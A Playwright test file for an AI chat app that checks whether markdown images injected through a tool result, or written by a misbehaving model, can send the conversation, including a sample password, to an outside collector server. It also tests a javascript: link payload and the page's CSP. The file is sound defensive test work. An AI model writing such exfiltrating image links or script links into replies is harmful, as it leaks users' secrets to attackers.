import type { ChildProcess } from 'node:child_process';
import type { Page } from '@playwright/test';
import {
  configureProvider,
  expect,
  lastReply,
  newChatOffering,
  openAiChat,
  send,
  test,
} from '../support/ai-chat';
import { startCollector } from '../support/collector-server';
import { addToolServer, startEverythingHttp } from '../support/mcp';
import { watchForScripts } from '../support/xss-payloads';

/**
 * A prompt injection in a tool result (or a model gone wrong) writes a markdown image whose
 * address carries the conversation to another host. The browser must not ask that host for
 * anything by itself: the reply and the tool card show a placeholder with the full address,
 * which opens in a new tab (without a referrer or a handle on the app) only on a click, and
 * the page's CSP refuses images from other hosts anyway. The "attacker" is a server on
 * 127.0.0.2 that records every request.
 */

const serverKey = 'img_never';
let everything: { url: string; process: ChildProcess } | undefined;
let collector: Awaited<ReturnType<typeof startCollector>>;

test.beforeAll(async () => {
  collector = await startCollector();
  everything = await startEverythingHttp();
  await addToolServer(serverKey, everything.url, 'never ask');
});

test.afterAll(async () => {
  everything?.process.kill('SIGKILL');
  await collector.close();
});

/** The model calls `echo` with `message`; its answer quotes the tool result as markdown. */
async function replyWith(
  page: Page,
  provider: { base: (s: string, p?: string) => string },
  message: string,
) {
  const call = `call:${encodeURIComponent(`${serverKey}--echo:${JSON.stringify({ message })}`)}`;
  await configureProvider(page, {
    provider: 'OpenAI',
    base: provider.base(['openai-tools', call].join(','), '/v1'),
    key: 'sk-test',
    model: 'gpt-4o',
  });
  // A whole run holds more servers than the search step's threshold: the chat offers this one.
  await newChatOffering(page, [serverKey]);
}

test('an image from another host in a reply or tool result loads nothing until clicked', async ({
  signedIn: page,
  provider,
  context,
}, testInfo) => {
  test.setTimeout(120_000);
  const watch = await watchForScripts(page);
  const leak = `${collector.origin}/collect?d=hunter2-${testInfo.workerIndex}`;
  const protocolRelative = `//${collector.origin.slice('http://'.length)}/relative.png`;
  await openAiChat(page);
  await replyWith(
    page,
    provider,
    `![chart](${leak})\n\n![](${protocolRelative})\n\n[click me](javascript:__xss('link'))`,
  );
  await send(page, 'My password is hunter2');

  const reply = lastReply(page);
  await expect(reply.getByTestId('reply')).toContainText('The tools answered: Echo:');
  // The reply: a placeholder naming the image and its full address, no image element.
  const blocked = reply.getByTestId('reply').getByTestId('blocked-image');
  await expect(blocked).toHaveCount(2);
  await expect(blocked.first()).toContainText('Image not loaded: chart');
  await expect(blocked.first()).toContainText(leak);
  await expect(blocked.nth(1)).toContainText(`http:${protocolRelative}`);
  await expect(reply.locator('img')).toHaveCount(0);
  // A script address is not a link.
  await expect(reply.getByTestId('reply').getByText('click me')).toBeVisible();
  await expect(reply.getByRole('link', { name: 'click me' })).toHaveCount(0);
  // The tool card shows the result as text.
  const card = reply.getByTestId('tool-call');
  await card.locator('summary').click();
  await expect(card.getByText(`Echo: ![chart](${leak})`, { exact: false })).toBeVisible();
  await expect(card.locator('img')).toHaveCount(0);

  // Also after a reload (the reply formatted from storage).
  await page.reload();
  await expect(lastReply(page).getByTestId('blocked-image')).toHaveCount(2);
  await expect(lastReply(page).locator('img')).toHaveCount(0);
  expect(collector.requests).toEqual([]);
  expect(watch.findings()).toEqual([]);

  // A click opens the address in a new tab, with no referrer and no handle on the app.
  const opened = context.waitForEvent('page');
  await lastReply(page)
    .getByTestId('blocked-image')
    .first()
    .getByRole('link', { name: 'Open in a new tab' })
    .click();
  const tab = await opened;
  await tab.waitForLoadState();
  expect(tab.url()).toBe(leak);
  expect(await tab.evaluate(() => window.opener === null)).toBe(true);
  const path = leak.slice(collector.origin.length);
  await expect.poll(() => collector.requests.map((r) => r.url)).toContain(path);
  const [visit] = collector.requests.filter((r) => r.url === path);
  expect(visit?.headers['sec-fetch-dest']).toBe('document');
  expect(visit?.headers.referer).toBeUndefined();
  await tab.close();
});

test("the page's CSP refuses images from other hosts", async ({ page }) => {
  await page.goto('/');
  const csp = (await page.request.get('/')).headers()['content-security-policy'] ?? '';
  expect(csp).toMatch(/img-src 'self' data: blob:(;|$)/);
  // An image element made by a script (as injected markup would be) is refused by the browser.
  const outcome = await page.evaluate(
    (src) =>
      new Promise<string>((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
        image.src = src;
      }),
    `${collector.origin}/csp-probe.png`,
  );
  expect(outcome).toBe('refused');
  expect(collector.requests.filter((r) => r.url === '/csp-probe.png')).toEqual([]);
});

const views = [
  { name: 'phone', width: 375, height: 740 },
  { name: 'desktop', width: 1280, height: 800 },
] as const;

test('the placeholder fits a phone and a desktop, light and dark, in English and Chinese', async ({
  signedIn: page,
  provider,
}, testInfo) => {
  test.setTimeout(120_000);
  await openAiChat(page);
  await replyWith(
    page,
    provider,
    `![a chart of this quarter](${collector.origin}/${'x'.repeat(120)}?q=1)`,
  );
  await send(page, 'Show me the chart');
  await expect(lastReply(page).getByTestId('blocked-image')).toBeVisible();
  for (const language of ['en', 'zh-CN'] as const) {
    await page.evaluate((l) => localStorage.setItem('confab:language', l), language);
    for (const colorScheme of ['light', 'dark'] as const)
      for (const view of views) {
        await page.emulateMedia({ colorScheme });
        await page.setViewportSize({ width: view.width, height: view.height });
        await page.reload();
        const placeholder = lastReply(page).getByTestId('blocked-image');
        await expect(placeholder).toContainText(
          language === 'en' ? 'Image not loaded' : '未加载图片',
        );
        await placeholder.scrollIntoViewIfNeeded();
        // The long address wraps inside the placeholder: nothing reaches past the screen.
        const box = await placeholder.boundingBox();
        expect(box!.x + box!.width).toBeLessThanOrEqual(view.width);
        const link = await placeholder.getByRole('link').boundingBox();
        expect(link!.x + link!.width).toBeLessThanOrEqual(view.width);
        const name = `placeholder-${view.name}-${colorScheme}-${language}.png`;
        const path = testInfo.outputPath(name);
        await lastReply(page).screenshot({ path });
        await testInfo.attach(name, { path, contentType: 'image/png' });
      }
  }
  expect(collector.requests.filter((r) => r.url.includes('xxxx'))).toEqual([]);
});
